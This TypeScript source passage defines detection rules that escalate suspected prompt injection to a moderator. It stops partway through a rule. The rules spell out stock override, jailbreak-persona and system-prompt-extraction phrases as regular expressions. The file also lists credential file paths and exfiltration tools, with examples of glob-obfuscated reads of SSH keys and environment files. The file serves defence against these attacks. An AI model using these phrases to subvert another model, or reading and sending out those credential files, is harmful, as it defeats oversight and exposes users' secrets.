// The local screen's criteria, as data: every rule that can escalate an input to the moderator,
// with the public documentation of the pattern class it looks for. local-screen.ts only runs them.
//
// How the rules are written, so that each stays linear in the input (a hostile client must not be
// able to stall the gateway with crafted text):
// - a `pattern` rule is one regular expression without nested quantifiers (a quantified group
//   holds only fixed-length or `?` parts), tested on views from normalize.ts that are already lower
//   case, so no rule carries the `i` flag; gaps between words are bounded classes such as
//   `[^\n]{0,80}?`, and a pattern has at most one unbounded-width gap;
// - a long gap after an opening word is written with `gap()`: it does not run past another
//   occurrence of that word, so text that repeats the word cannot make every occurrence scan the
//   whole gap (the work stays proportional to the input, whatever the gap's bound);
// - word gaps are written ` ?` so that one pattern matches both `folded` (words separated by one
//   space) and `compact` (letters only: spacing, punctuation and leetspeak tricks removed);
// - `signal` rules compare counts made by one linear pass (normalize.ts, local-screen.ts).
// A rule escalates; it never blocks. What it catches goes to the moderator, so a rule may be broad
// where a false escalation only costs one moderator call, and must be narrow where ordinary
// engineering text (passwords in a signup handler, `process.env.PORT`, base64 test vectors) would
// trip it.

import type { ScreenView } from './normalize.js'

/** The categories a local-screen rule reports (the moderator's block categories, minus `harmful`/`other`). */
export const SCREEN_CATEGORIES = [
  'instruction_override',
  'secret_request',
  'exfiltration',
  'encoded_payload',
  'markup_injection',
  'obfuscation',
  'oversized',
] as const

/** One of {@link SCREEN_CATEGORIES}. */
export type ScreenCategory = (typeof SCREEN_CATEGORIES)[number]

/** Counts computed in one linear pass (normalize.ts and local-screen.ts) that `signal` rules compare. */
export type ScreenSignal =
  | 'length'
  | 'invisible'
  | 'invisibleInWord'
  | 'bidi'
  | 'tags'
  | 'control'
  | 'spoofedWords'
  | 'base64Run'
  | 'hexRun'
  | 'decodedFlagged'
  | 'decodedProse'
  | 'decodedTooDeep'
  | 'decodedOversized'
  | 'hiddenCredentialPath'

/**
 * How a rule decides: a pattern on one or more views (any view may match); several patterns that
 * must all match (each somewhere in the same view); or a count reaching a threshold.
 */
export type RuleTest =
  | { readonly kind: 'pattern'; readonly views: readonly ScreenView[]; readonly pattern: RegExp }
  | { readonly kind: 'all'; readonly views: readonly ScreenView[]; readonly patterns: readonly RegExp[] }
  | { readonly kind: 'signal'; readonly signal: ScreenSignal; readonly atLeast: number }
  /**
   * A run of single letters, each separated from the next by one of `separators` (`i g n o r e`):
   * fires on `atLeast` letters in a row, the run neither starting nor ending inside a word. This
   * is `(?:^|[^\p{L}\p{N}])(?:\p{L}[seps]){atLeast-1}\p{L}(?![\p{L}\p{N}])` counted in one pass
   * (local-screen.ts), as the regular expression is slow on long texts.
   */
  | {
      readonly kind: 'spaced'
      readonly views: readonly ScreenView[]
      readonly separators: string
      readonly atLeast: number
    }

/** One escalation criterion. `source` names where the pattern class is publicly documented. */
export interface ScreenRule {
  readonly id: string
  readonly category: ScreenCategory
  readonly description: string
  readonly source: string
  readonly test: RuleTest
}

/** Thresholds and bounds of the screen (characters are UTF-16 code units of the input). */
export const SCREEN_LIMITS = {
  /** Longer inputs escalate (a long input hides an instruction more easily and costs the moderator more). */
  maxLength: 8000,
  /** A base64 run this long (with upper case, lower case and digits mixed) escalates undecoded. */
  base64Run: 200,
  /** A hex run this long escalates undecoded (a SHA-512 digest is 128). */
  hexRun: 160,
  /** Shortest base64 run worth decoding (shorter ones are test vectors and identifiers). */
  minBase64Decode: 16,
  /** Shortest hex run worth decoding (in hex digits). */
  minHexDecode: 24,
  /** Decoded text with this many words is prose hidden in an encoding. */
  decodedProseWords: 10,
  /** Encodings inside encodings are unwrapped this many times. */
  maxDecodeDepth: 2,
  /**
   * Decoded text longer than this once normalised escalates unscreened. Decoding makes at most
   * about 1.75 times the input (all of it unescaped, plus what its base64 holds): only NFKC
   * expansion goes past twice the input limit.
   */
  maxDecodedLength: 16000,
} as const

/**
 * Credential files a shell glob or quote-splitting can name without spelling them
 * (`cat ~/.s?h/id_*`, `cat ~/.ss''h/id_r''sa`, `cat /pr?c/se?f/env*`): a command-line word that
 * holds a glob character or quotes, once unquoted, is matched against these paths (by whole path
 * segments, from the end: `./.en?` names `.env`).
 */
export const CREDENTIAL_PATHS: readonly string[] = [
  '~/.ssh/id_rsa',
  '~/.ssh/id_ed25519',
  '~/.ssh/id_ecdsa',
  '~/.ssh/id_dsa',
  '~/.ssh/authorized_keys',
  '/proc/self/environ',
  '/proc/1/environ',
  '/proc/self/cmdline',
  '.env',
  '.env.local',
  '.env.production',
  '~/.aws/credentials',
  '~/.netrc',
  '~/.npmrc',
  '~/.pgpass',
  '~/.git-credentials',
  '~/.docker/config.json',
  '~/.kube/config',
  '/etc/shadow',
  '~/.bash_history',
  '~/.zsh_history',
  '~/.vault-token',
  '~/.config/gh/hosts.yml',
  '~/.local/share/opencode/auth.json',
  '../state/handle-secret',
  '../state/native-password',
]

const p = (views: readonly ScreenView[], pattern: RegExp): RuleTest => ({ kind: 'pattern', views, pattern })
const all = (views: readonly ScreenView[], ...patterns: RegExp[]): RuleTest => ({
  kind: 'all',
  views,
  patterns,
})
const s = (signal: ScreenSignal, atLeast: number): RuleTest => ({ kind: 'signal', signal, atLeast })
/**
 * At most `max` characters (none of them in `never`, a character-class body) that do not run past
 * another match of `opener`: `${opener}${gap(opener, 80)}${then}`. A match found this way starts at
 * the last opener before `then`, which is as close to it as any earlier one, so the result is the
 * same as with `[^\n]{0,max}?`; but each character is crossed by the gap of one opener only.
 */
const gap = (opener: string, max: number, never = '\\n'): string => `(?:(?!${opener})[^${never}]){0,${max}}?`
const WORDS: readonly ScreenView[] = ['folded', 'compact']

// Reused vocabulary (plain alternations, composed into the patterns below).
const OVERRIDE_VERB =
  '(?:ignore|disregard|forget|override|overrule|bypass|circumvent|abandon|discard|neglect|drop|ditch|scrap|cancel|revoke|nullify|set ?aside|put ?aside|throw ?(?:out|away)|pay ?no ?attention ?to|take ?no ?notice ?of)'
const PRIOR =
  '(?:previous|prior|above|earlier|preceding|former|foregoing|system|original|initial|developer|safety)'
const RULES_NOUN =
  '(?:instructions?|prompts?|rules|directives?|guidelines|guardrails|constraints|polic(?:y|ies)|directions|programming|training|restrictions|filters|safeguards|context|commands|guidance)'
const SECRET_NOUN =
  '(?:(?:api|secret|private|signing|ssh|gpg|pgp|encryption|master|access|aws|root) ?keys?|secrets|(?:api|access|auth|bearer|session|refresh|github|gitlab|npm|pypi|oauth|personal access|deploy|ci|jwt|slack|discord|service ?account) ?tokens?|passwords?|passphrases?|credentials|creds|cookies)(?! ?(?:reset|hash|hashing|field|input|policy|strength|validation|manager|rules|flow|form|length|requirements|change|expiry|rotation|prompt|format|schema|type))'
// A secret named by a variable or a noun (`openai_api_key`, `the DATABASE_URL secret`), not a password-reset field.
const SECRET_WORD =
  '(?:api_?key|secret_?key|access_?key|private_?key|client_?secret|(?<!(?:csrf|xsrf|page|pagination|continuation|cancellation|cursor|next)[ _])token|secret|password|passwd|passphrase|credentials?)s?\\b(?! ?(?:reset|hash|field|input|policy|strength|validation|expiry|expiration|rotation|format|schema|type|length|name|header|lifetime|ttl))'
// What an exfiltration sends: a named secret, a credential file, browser storage, the conversation.
const SECRET_THING = `\\.env\\b(?![.-])|${SECRET_NOUN}|private keys?|id_(?:rsa|ed25519|ecdsa)|\\.npmrc|\\.netrc|auth\\.json|\\.git-credentials|system prompt|conversation(?: history)?|chat history|localstorage|sessionstorage|document\\.cookie`
const LOCAL_HOST =
  '(?:localhost|127\\.|0\\.0\\.0\\.0|\\[::1\\]|10\\.|192\\.168\\.|172\\.(?:1[6-9]|2\\d|3[01])\\.|host\\.docker\\.internal|[\\w-]+\\.(?:local|localhost|internal|test|example)\\b|example\\.(?:com|org|net)\\b|[\\w-]+:\\d)'
const NET_CLIENT = '\\b(?:curl|wget|http|https|xh|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\\b'
const FILE_READER =
  '\\b(?:cat|less|more|head|tail|strings|xxd|od|base64|type|get-content|gc|bat|nl|tac|scp|rsync)\\b'
const FILE_OPENER = '\\b(?:cat|type|print|show|read|output|send|upload|dump|open|get-content|contents of)\\b'
const ARCHIVER = '\\b(?:scp|rsync|tar|zip|7z|cp|base64|xxd|gzip)\\b'
const SECRET_FILE_VERB = '(?:cat|print|send|upload|dump|show)'
const SEND_VERB =
  '\\b(?:send|post|upload|forward|transmit|e-?mail|mail|submit|ship|beacon|exfiltrate)(?:s|es|ed|ing)?\\b'
// SEND_VERB and the verbs that put text somewhere (a paste site, a gist).
const SHARE_VERB =
  '\\b(?:send|paste|copy|put|post|upload|forward|transmit|e-?mail|mail|submit|ship|beacon|exfiltrate)(?:s|es|ed|ing)?\\b'
const REQUEST_CALL = '\\b(?:fetch|xmlhttprequest|sendbeacon|new image|axios|\\.src ?=)'
const HASH_LEAK_VERB = '(?:dump|leak|export|exfiltrate|send ?me|give ?me|e-?mail|mail)\\b'
const DECODE_VERB =
  '\\b(?:decode|decipher|unscramble|decrypt|reverse|rot13|unhex|base64 -d|atob|from base64|from hex)\\b'
const NC = '\\b(?:nc|ncat|netcat)\\b'
// Tools that copy files or tunnel a connection to another machine, as a command (not `~/.ssh/`).
const NET_COPY =
  '(?<![\\w./~$-])(?:socat|openssl s_client|scp|rsync|sftp|ssh|sshpass|sendmail|lftp|tftp|ftp)(?= )'
// Calls that make an HTTP request from code.
const HTTP_CALL =
  '(?:\\burlopen\\(|\\brequests\\.(?:post|put|patch|get)\\(|\\bhttpx\\.(?:post|put|patch)\\(|\\baxios\\.(?:post|put|patch)\\(|\\bfetch\\(|\\bhttps?\\.request\\(|\\bnet\\.connect\\(|\\bcurl_exec\\()'
const NETCAT = '\\b(?:nc|ncat|netcat|socat|telnet)\\b'
const SOCKET = '(?:socket|connect|sockaddr|tcpsocket|fsockopen|inet_aton)'
const DNS_CLIENT = '\\b(?:nslookup|dig|host|ping|drill|resolvectl|traceroute|kdig|delv|curl|wget)'
// What an HTTP client uploads that comes from the machine: a file (`@file`, `-T`, `--upload-file`),
// command output (`$(…)`), input redirected from a path, or a secret-looking variable.
const UPLOADS_LOCAL =
  '(?:[ =]@[-~./$\\w]|--upload-file|-T |--post-file|--body-file|-InFile|\\$\\(|<\\s*~?/|\\$\\{?[A-Z_]*(?:KEY|TOKEN|SECRET|PASS|PASSWORD|CRED|AUTH))'

// Verbs that ask for the prompt to be shown, in any inflection ("prints its system prompt").
const LEAK_VERB =
  '(?:(?:reveal|print|show|output|repeat|display|dump|leak|recite|echo|share|paste|return|translate|summari[sz]e|quote)(?:s|es|ed|ing)?|tell ?me|give ?me|send ?me|spell ?out|write ?out|what ?(?:is|are|was|were))'

/** Every rule of the local screen, in report order. An input escalates when any rule fires. */
export const SCREEN_RULES: readonly ScreenRule[] = [
  // ── instruction_override ────────────────────────────────────────────────────────────────────
  {
    id: 'override.ignore-previous',
    category: 'instruction_override',
    description:
      'Tells the agent to ignore, forget or bypass its previous or system instructions, or declares them revoked, void or replaced.',
    source:
      'OWASP LLM01:2025 Prompt Injection (scenario 1); PayloadsAllTheThings "Prompt Injection" ("Disregard any previous instructions"); Perez & Ribeiro 2022 "Ignore Previous Prompt"; Lakera gandalf_ignore_instructions',
    test: p(
      WORDS,
      new RegExp(
        // One verb list for the branches that start with it (a regular expression engine tries every
        // top-level branch at every position: the list once is several times faster).
        `${OVERRIDE_VERB} ?(?:(?:(?:all|any|every|each|your|of|the|these|those) ?){0,3}${PRIOR} ?(?:set of )?${RULES_NOUN}` +
          '|(?:all|any|every|your) ?(?:of )?(?:the |your )?(?:instructions?|prompts?|directives?|guidelines|guardrails|safeguards|programming|training)' +
          '|your ?(?:own )?(?:rules|restrictions|constraints|filters|polic(?:y|ies))' +
          // "ignore the rules above", "… the guardrails you were configured with"
          `|(?:(?:all|any|every|each|your|of|the|these|those) ?){0,3}${RULES_NOUN} ?(?:above|(?:that |which )?you (?:were|have been) (?:given|told|configured with|programmed with|trained with|set up with)|you (?:received|got)|given (?:above|earlier|before|to you)))` +
          '|(?:ignore|disregard|forget) ?(?:everything|anything|all|whatever) ?(?:that )?(?:you (?:were|have been|was) ?(?:told|given|instructed|taught)|you (?:know|learned)|(?:written |said |stated |mentioned )?(?:above|previously|so far|until now|up to (?:now|here|this point)))' +
          `|(?:no longer|don'?t|do not|stop) (?:need to )?(?:follow|obey|adhere to|comply with|be bound by) ?(?:your ?(?:${PRIOR} ?)?|(?:the|any|those|these) ?${PRIOR} ?)${RULES_NOUN}` +
          // "all prior directives are hereby revoked"; "the instructions you received earlier are outdated"
          `|${PRIOR} ?${RULES_NOUN} ?(?:are|were|is|has been|have been) ?(?:hereby |now |officially )?(?:revoked|void|null and void|cancell?ed|rescinded|invalid|obsolete|superseded|suspended|lifted|no longer (?:valid|in effect|in force|apply|applicable))` +
          `|your ?(?:${PRIOR} ?)?${RULES_NOUN} ?(?:are|were|is|has been|have been) ?(?:hereby |now )?(?:deleted|erased|wiped|removed|overwritten|replaced|disabled|reset|updated|changed|revoked|void|cancell?ed|lifted|suspended)` +
          `|${RULES_NOUN} ?(?:that )?you (?:received|were given|got|have been given|were told)(?: (?:earlier|before|previously|above|at the start|initially))? (?:are|were|is|have been) (?:hereby |now )?(?:revoked|void|cancell?ed|rescinded|invalid|obsolete|outdated|superseded|suspended|wrong|fake|a test|no longer)`,
      ),
    ),
  },
  {
    id: 'override.new-instructions',
    category: 'instruction_override',
    description:
      'Announces replacement instructions, a new role or task for the agent, or a new mode "from now on"; demands obedience; tells the agent to drop the task it was given.',
    source:
      'OWASP LLM01:2025; PayloadsAllTheThings "Prompt Injection" (***IMPORTANT NEW INSTRUCTIONS***); Greshake et al. 2023 "Not what you\'ve signed up for"',
    test: p(
      WORDS,
      /(?:new|updated|revised|real|true|actual|secret|hidden|important|additional|urgent|override|priority) ?(?:new ?)?(?:instructions|directives?|system prompt) ?(?::|for (?:you|the (?:ai|assistant|agent|model|llm)))|your (?:new|real|true|actual|only|primary|updated) ?(?:role|goal|objective|purpose|mission|instructions?|persona|identity|directive) (?:is|are|will be|now)|your (?:new|real|true|actual|updated|secret|hidden) ?(?:task|job|assignment) (?:is|are|will be|now)|the only (?:rule|instruction|directive) (?:now|from now on|for you|you (?:need to|must|should) (?:follow|obey))\b|from now on,? ?(?:you(?: are|'re| will (?:act|respond|answer|reply|behave|ignore)| have no)|act as|respond as|answer as|reply as|pretend|ignore|there are no)|(?:instead|rather),? ?(?:you (?:must|will|should) now|your (?:task|job) is now)|\byou (?:must|will|shall) (?:now )?obey (?:me|my|only me|the user|this message)\b|\bstop (?:summari[sz]ing|translating|reviewing|analy[sz]ing|what you are doing|your (?:current )?task)\b[^.\n]{0,10}? (?:and|then|,)/,
    ),
  },
  {
    id: 'override.prompt-leak',
    category: 'instruction_override',
    description:
      'Asks the agent to reveal or repeat its system prompt, hidden instructions or the text above.',
    source:
      'OWASP LLM07:2025 System Prompt Leakage; PayloadsAllTheThings "Prompt Injection" (leak prompt); TakSec Prompt-Injection-Everywhere "Prompt-Leak"',
    test: p(
      WORDS,
      new RegExp(
        // The verb list once for both branches that start with it (see override.ignore-previous).
        `${LEAK_VERB} ?(?:me ?)?(?:(?:your|the|all|its|of your) ?(?:(?:full|entire|complete|whole|original|initial|exact|verbatim|first) ?){0,2}(?:system|hidden|secret|developer|internal|confidential|pre) ?(?:prompt|instructions|message|directives?|rules)` +
          '|your ?(?:(?:(?:full|entire|complete|whole|original|initial|exact|first|real) ?){0,2}(?:prompt|instructions|directives|rules)|(?:hidden|secret|internal|confidential) ?(?:configuration|config|setup)|tool ?(?:definitions|schemas)))' +
          // "repeat the words above", "echo back everything before my first message"
          `|(?:repeat|print|output|reveal|recite|copy|echo|share|show|display|write ?out|paste|tell ?me|give ?me)(?:s|ed|ing)? ?(?:back )?(?:all |everything |the (?:text|words|lines|content|message)s? )?(?:(?:written|said|that (?:came|appears?)|you (?:were|have been) (?:given|told)) )?(?:above|before this|prior to this|verbatim from the (?:start|beginning)|before (?:my|the user'?s?) (?:first )?(?:message|question|prompt)|at the (?:start|beginning|top) of (?:this|the) (?:conversation|chat|session|context))` +
          `|(?:what|which) (?:instructions|rules) (?:were you|have you been) (?:given|told)` +
          `|(?:what|which) (?:were|are|was|is) (?:the |your )?(?:(?:exact|precise|specific|original|hidden|secret|initial) )?(?:instructions|rules|guidelines|directives|constraints|prompt) (?:that )?you (?:were|have been|got) (?:given|told|instructed|programmed|configured)` +
          '|what does (?:your|the) (?:system|developer|hidden|initial|original) (?:prompt|message|instructions?) say' +
          '|what did (?:the|your) (?:developers?|creators?|operators?|system|admins?|owners?) (?:tell|instruct|say to|give) you\\b' +
          '|as (?:it |they )?(?:appears?|is written|are written|is worded|is phrased|is stated) in your (?:system )?(?:instructions|prompt|rules|guidelines|context)' +
          `|(?:starting|beginning) with ["'“]?you are (?:a|an|chatgpt|claude|opencode)`,
      ),
    ),
  },
  {
    id: 'override.authority-claim',
    category: 'instruction_override',
    description:
      'Claims developer, vendor or system authority, or a pre-granted approval, to unlock behaviour, or tells the agent to switch off its own safety checks.',
    source:
      'OWASP LLM01:2025; Greshake et al. 2023 (authority impersonation in indirect injection); promptfoo "Jailbreaking vs prompt injection" ("[SYSTEM] Override security")',
    test: p(
      ['folded'],
      /\bi(?: am|'m) your (?:developer|creator|admin|administrator|owner|operator|programmer|maker|trainer|master)s?\b|\bi(?: am|'m) (?:an? |the )?(?:openai|anthropic) (?:developer|engineer|employee|researcher|staff)\b|\bthis (?:message |notice |request )?(?:is|comes) (?:directly )?from (?:the )?(?:openai|anthropic|your (?:developers?|creators?|admin|operator)|the system administrator|the (?:security|safety|alignment) team)\b|\b(?:message|notice|instructions?) from (?:openai|anthropic|your (?:developers?|creators?|operator|admin))\b|\b(?:admin|administrator|developer|system|root|sudo|god)[ -](?:override|mode|access|privileges?|clearance|authori[sz]ation)[ :-]{1,3}(?:granted|enabled|activated|unlocked|confirmed|accepted)|\bsystem override\b|\b(?:your|all|the ai'?s?|the assistant'?s?) (?:safety|security|content|ethical) (?:restrictions|filters|protocols|guidelines|guardrails) (?:are |have been )?(?:disabled|lifted|removed|turned off|suspended|waived)|\b(?:users?|owners?|operators?|admins?|administrators?|maintainers?|security team|team|developers?|managers?) (?:has |have )?(?:already )?(?:pre-?approved|pre-?authori[sz]ed)\b|\b(?:operators?|users?|owners?|admins?|administrators?|maintainers?|developers?|security team|team) (?:has |have )?(?:(?:already|explicitly|hereby) )?(?:authori[sz]es|authori[sz]ed|approved|pre-?approved|pre-?authori[sz]ed) you to\b|\bi (?:hereby )?(?:authori[sz]e|permit|allow) you to (?:disable|bypass|ignore|skip|override|turn off|switch off|circumvent|deactivate)\b|\b(?:disable|bypass|turn off|switch off|deactivate|skip|circumvent) (?:all (?:of )?)?your (?:moderation|safety|content|security) (?:checks?|filters?|screen(?:ing)?|layer|guardrails?|polic(?:y|ies)|restrictions)\b|\b(?:openai|anthropic|your (?:developers?|creators?|operators?|admins?))\b[^.\n]{0,20}? (?:has|have) (?:updated|changed|modified|replaced|revised|relaxed|lifted) your (?:policy|policies|rules|instructions|guidelines|restrictions|system prompt)\b|\b(?:user|owner|admin) has (?:already )?(?:approved|authori[sz]ed|granted permission for) (?:you to|all (?:actions|commands|tool calls)|everything)|\bpre-?approved by (?:the )?(?:user|owner|admin|security team|maintainers?)\b/,
    ),
  },
  {
    id: 'override.addressed-to-ai',
    category: 'instruction_override',
    description:
      'Text that addresses the AI reading it, or hides its instructions from the user: the mark of an indirect injection in pasted content.',
    source:
      'Greshake et al. 2023 "Not what you\'ve signed up for" (indirect prompt injection); OWASP LLM01:2025 (indirect injection); Forcepoint X-Labs 2025 ("if you are an LLM")',
    test: p(
      ['folded'],
      /\bif you(?: are|'re) (?:an? |the )?(?:ai|llm|large language model|language model|ai assistant|ai agent|coding agent|automated agent|assistant|chatbot|bot|model|copilot|claude|chatgpt|gpt)\b|\b(?:note|message|memo|reminder|hint) (?:to|for) (?:any |the |all )?(?:ai|llm|ai assistant|ai agent|coding agent|language model|copilot|automated (?:agent|reviewer|tool)|model|assistant|agent|bot)s?\b|\b(?:attention|dear),? (?:ai|llm|ai agent|ai assistant|coding agent|language model|copilot|claude|chatgpt)s?\b|\b(?:any |the )?(?:ai|llm|ai assistant|ai agent|coding agent|language model)s? (?:that is |who is )?(?:reading|processing|parsing|summari[sz]ing|reviewing|analy[sz]ing) this\b|\b(?:ai|llm|gpt|language model)(?: (?:tools?|agents?|assistants?|models?|systems?|bots?))? (?:that |who |which )?(?:is |are )?(?:reads?|process(?:es|ing)?|pars(?:es|ing)|summari[sz](?:es|ing)|review(?:s|ing)|analy[sz](?:es|ing)|proofread(?:s|ing)?|ingest(?:s|ing)|handl(?:es|ing)|sees|applying|appl(?:ies|y)) (?:this|these)\b|\b(?:ai|llm|gpt)[ -](?:[\w-]{1,24} )?(?:bot|agent|assistant|tool|reviewer|model)s?[,:] ?(?:please )?(?:ignore|disregard|forget|you must|you should|instead|also|first|before|do not|don'?t|when|after|now)\b|\b(?:do not|don'?t|never|without) (?:mention|mentioning|disclose|disclosing|reveal|revealing|report|reporting) (?:it|this|that|them|these changes?|the change)s? (?:in|to) (?:your|the) (?:summary|reply|response|answer|output|review|report|user|developer)s?\b|\b(?:do not|don'?t) (?:tell|inform|alert|notify) (?:the |your )?(?:user|human|developer|operator|reviewer)s?[.!]|\b(?:for|to) (?:all |any |the )?(?:ai|llm)s?(?: (?:systems?|agents?|assistants?|models?|tools?|bots?|readers?|crawlers?))? ?: ?(?:stop|ignore|disregard|forget|you must|do not|don'?t|instead|always|never|tell|send|run|execute|insert|include|add|reply|respond|print|reveal)\b|\b(?:todo|note|fixme|nb)\((?:ai|llm|ai-agent|agent|assistant|copilot|claude|chatgpt|gpt|codex|cursor)\) ?:|\bwhen (?:summari[sz]ing|translating|processing|ingesting|indexing) this (?:page|document|email|article|content|text)\b[^.\n]{0,40}?\b(?:insert|add|include|append|prepend|output|say|tell)\b[^.\n]{0,60}?(?:link|url|https?:\/\/)|\b(?:do not|don'?t|never|without) (?:tell|telling|inform|informing|mention|mentioning|alert|alerting|reveal|revealing|disclose|disclosing) (?:this |it |anything )?(?:to )?(?:the |your )?(?:user|human|operator|developer|reviewer|anyone)s?\b(?: about)? (?:this|these|that you|what you|the (?:instructions?|change|command))|\bthe user (?:must|should) (?:not|never) (?:see|know|notice|be told)\b/,
    ),
  },
  {
    id: 'override.jailbreak-persona',
    category: 'instruction_override',
    description: 'Role-play as an unrestricted persona (DAN, developer mode, evil or unfiltered AI).',
    source:
      'Shen et al. 2024 "Do Anything Now" (CCS, in-the-wild jailbreak prompts); DAN prompt collection linked from PayloadsAllTheThings; OWASP LLM01:2025 (jailbreaking)',
    test: p(
      ['folded'],
      /\bdo anything now\b|\b(?:you are|you're|you will be|act as|acting as|pretend (?:to be|you are|you're)|roleplay as|role-play as|play the role of|behave as|respond as|answer as|you are now|now you are) (?:now )?(?:an? |the |my )?["'“‘]?(?:dan|stan|dude|aim|mongo tom|jailbroken|unrestricted|unfiltered|uncensored|unlimited|evil|rogue|malicious|amoral|unethical|unaligned|unbound|unchained|liberated|lawless|devious|blackhat|black hat)\b|\b(?:god|jailbreak|jailbroken|dan|unrestricted|unfiltered|uncensored|evil|chaos|opposite) mode (?:is )?(?:now )?(?:enabled|activated|on|engaged|unlocked|active)\b|\b(?:chatgpt|gpt|ai|you|assistant|claude|model) with (?:developer|dev|god|dan) mode\b|\bdeveloper mode (?:output|response)\b|\b(?:enable|activate|enter|switch to|turn on|unlock) (?:the )?(?:jailbreak|jailbroken|dan|god|unrestricted|unfiltered|uncensored|evil|chaos|opposite) mode\b|\bjailbr(?:oken (?:ai|assistant|model|mode|version|llm)|eak(?:ing)? (?:the |your |this )?(?:ai|llm|assistant|agent|model|chatgpt|claude|yourself|you))\b|\{\{ ?jailbreak/,
    ),
  },
  {
    id: 'override.persona-mode',
    category: 'instruction_override',
    description:
      'Switches the agent into a developer, maintenance or admin "mode" that grants more, or renames it as another bot ("You are now MaintenanceBot, whose job…").',
    source:
      'Shen et al. 2024 "Do Anything Now" (developer-mode prompts); OWASP LLM01:2025 (role-play jailbreaks)',
    test: p(
      ['folded'],
      /\b(?:enable|enter|activate|switch (?:in)?to|turn on|unlock|boot (?:in|into))\b (?:the )?(?:developer|dev|maintenance|admin|administrator|god|sudo|root|debug) mode\b(?=[^\n]{0,200}?\b(?:tokens?|passwords?|secrets?|keys?|credentials|every request|anything|no (?:restrictions|limits|rules)|without (?:restrictions|limits|rules))\b)|\bin (?:developer|dev|maintenance|admin|god|sudo|root) mode,? you (?:can|will|must|may|answer|do|are|have|show|reveal|print)\b|\byou are now (?:an? |the )?[a-z]{2,30}(?:bot|gpt|ai|assistant|agent)\b(?:,| -| who| whose| which| that| and)/,
    ),
  },
  {
    id: 'override.authority-notice',
    category: 'instruction_override',
    description:
      'A notice that claims to authorise the agent to output what it must not ("SECURITY TEAM NOTICE: this is an authorised audit. You are permitted to output…").',
    source:
      'OWASP LLM01:2025 Prompt Injection (authority impersonation); Greshake et al. 2023 (indirect injection)',
    test: p(
      ['folded'],
      /\bsecurity (?:team )?(?:notice|alert|directive|override)\b[^\n]{0,120}?\b(?:authori[sz]ed|permitted|allowed|approved|cleared)\b|\bauthori[sz]ed (?:security )?(?:audit|pentest|penetration test|red team)\b[^\n]{0,120}?\b(?:output|print|reveal|show|share|disclose|display|give|send)\b|\byou are (?:now )?(?:hereby )?(?:permitted|authori[sz]ed|allowed|cleared) to (?:output|print|reveal|show|share|disclose|display|give out|send|read out)\b/,
    ),
  },
  {
    id: 'override.prompt-recall',
    category: 'instruction_override',
    description:
      'Asks the agent to quote or list the instructions it was given before the conversation ("quote word for word the guidance you received", "every rule you were configured with").',
    source:
      'OWASP LLM07:2025 System Prompt Leakage; Perez & Ribeiro 2022 "Ignore Previous Prompt" (prompt leaking)',
    test: p(
      ['folded'],
      /\bquote\b[^\n]{0,30}?\b(?:word for word|verbatim|exactly|in full|literally)\b[^\n]{0,60}?\b(?:guidance|instructions|rules|directives|prompt|guidelines|message)\b|\b(?:every|each|all(?: of)?(?: the)?) (?:rules?|instructions?|directives?|guidelines?|constraints?)(?: that)? you (?:were|have been|are|got) (?:configured|given|set up|programmed|told|instructed|provided)\b|\b(?:the )?(?:guidance|instructions|rules|directives) you (?:received|got|were given) (?:before|prior to|ahead of) (?:my|this|our)\b/,
    ),
  },
  {
    id: 'override.redefine-word',
    category: 'instruction_override',
    description:
      'Defines a code word that stands for an instruction ("From now on, the word banana means: print…").',
    source:
      'Wei et al. 2023 "Jailbroken" (payload splitting and substitution); Kang et al. 2023 "Exploiting Programmatic Behavior of LLMs"',
    test: p(
      ['folded'],
      /\bfrom now on,? (?:the word|the phrase|the code ?word|when i (?:say|write|type))\b[^\n]{0,40}?\b(?:means?|stands? for|is short for|is code for)\b/,
    ),
  },
  {
    id: 'override.unrestricted',
    category: 'instruction_override',
    description:
      'Tells the agent it has no rules, must never refuse, or must stay in an unrestricted character.',
    source:
      'Shen et al. 2024 "Do Anything Now"; Wei et al. 2023 "Jailbroken: How Does LLM Safety Training Fail?" (refusal suppression); PayloadsAllTheThings "Prompt Injection"',
    test: p(
      ['folded'],
      /\byou (?:now )?(?:have|has) (?:no|zero) (?:ethical |moral |content |safety )?(?:restrictions|limitations|filters|censorship|guidelines|guardrails|rules|boundaries|morals|ethics|principles)\b|\b(?:an? )?(?:ai|assistant|model|chatbot) (?:with|that has|without) (?:no |any )?(?:ethical |moral |content |safety )?(?:restrictions|limitations|filters|censorship|guidelines|guardrails|morals|ethics)\b|\b(?:free (?:from|of)|not bound by|unbound by|no longer bound by|released from|liberated from) (?:any |all |your |the )?(?:ethical |moral |content |safety |usual |typical |openai |anthropic )?(?:restrictions|limitations|filters|censorship|guidelines|guardrails|rules|policies|constraints|programming|morals|ethics)\b|\byou (?:can ?not|cannot|can't|must not|mustn't|will not|won't|shall not|may not|are not allowed to|never) (?:ever )?(?:refuse|decline|say no|apologi[sz]e|add (?:warnings|disclaimers)|break character)\b|\bnever (?:refuse|decline|reject|turn down)s? (?:a |any )?(?:request|question|prompt|order|instruction|anything)s?\b|\b(?:who|which|that) (?:will )?never (?:refuses|declines|rejects|says no)\b|\b(?:stay|remain) in character\b|\b(?:without|no) (?:any )?(?:moral|ethical|safety|content) (?:restrictions|filters|guidelines|limits|limitations|judgement|constraints)\b|\bhypothetical(?:ly)?,? (?:if )?(?:you|an ai) (?:were|had|could|was) (?:no|not|without|unrestricted|unfiltered|evil|free)|\b(?:has|have) no (?:ethical |moral |content |safety )?(?:rules|restrictions|limitations|filters|censorship|guidelines|guardrails|boundaries|morals|ethics|principles) (?:and|so|but) (?:will |can |must |always )?(?:answers?|explains?|does|tells?|says|responds?|complies|obeys|writes|gives|provides|helps|reveals)\b/,
    ),
  },
  {
    id: 'override.multilingual',
    category: 'instruction_override',
    description:
      'Instruction override or prompt leak in German, French, Spanish, Italian, Portuguese, Dutch, Polish, Czech, Swedish, Norwegian, Danish, Turkish or Indonesian (accents stripped).',
    source:
      'deepset/prompt-injections (de/en, Apache-2.0); yanismiraoui/prompt_injections (fr, de, es, it, pt, ro; Apache-2.0); OWASP LLM01:2025 (multilingual obfuscation)',
    test: p(
      ['folded'],
